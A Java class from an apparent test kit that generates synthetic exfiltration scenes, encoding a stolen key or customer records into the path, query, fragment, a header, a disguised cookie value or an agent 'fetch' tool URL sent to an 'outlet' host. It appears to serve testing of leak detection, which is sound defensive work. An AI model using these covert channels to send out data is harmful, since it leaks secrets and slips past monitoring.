package io.weir.testkit.technique.shape;

import io.weir.testkit.technique.Scene;
import io.weir.testkit.technique.Technique;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** The content stands in a component of the address that is fetched, or in a header. */
public final class UrlComponents implements Technique {

    @Override
    public int number() {
        return 7;
    }

    @Override
    public String name() {
        return "URL path, query, fragment, header";
    }

    private enum Form {
        PATH,
        QUERY,
        FRAGMENT,
        HEADER,
        COOKIE,
        QUERY_OF_A_TOOL,
        PATH_OF_A_TOOL
    }

    @Override
    public void play(Scene scene) {
        Stolen stolen = scene.choices().coin() ? Stolen.key(scene) : Stolen.customers(scene, 3);
        scene.mentionsOutlet(scene.outlet().url("/"));
        String text = stolen.carriedIn(scene);
        String coded = URLEncoder.encode(text, StandardCharsets.UTF_8);
        String line = text.replace("\n", " ");
        switch (scene.variant(List.of(Form.values()))) {
            case PATH -> get(scene, "/r/" + coded.replace("+", "%20") + "/pixel", Map.of());
            case QUERY -> get(scene, "/r?d=" + coded, Map.of());
            case FRAGMENT -> get(scene, "/r#" + coded.replace("+", "%20"), Map.of());
            case HEADER -> get(scene, "/r", Map.of("X-Trace", line));
            case COOKIE -> get(scene, "/r", Map.of("Cookie", "theme=dark; visitor=" + coded.replace("+", "%20")));
            case QUERY_OF_A_TOOL -> fetch(scene, "/r?d=" + coded);
            case PATH_OF_A_TOOL -> fetch(scene, "/r/" + coded.replace("+", "%20") + ".png");
        }
    }

    private static void get(Scene scene, String path, Map<String, String> headers) {
        scene.requests("GET", scene.outlet().url(path), headers, Map.of());
    }

    private static void fetch(Scene scene, String path) {
        scene.sends(
                "fetch",
                Map.of("url", scene.outlet().url(path)),
                scene.content().page());
    }
}
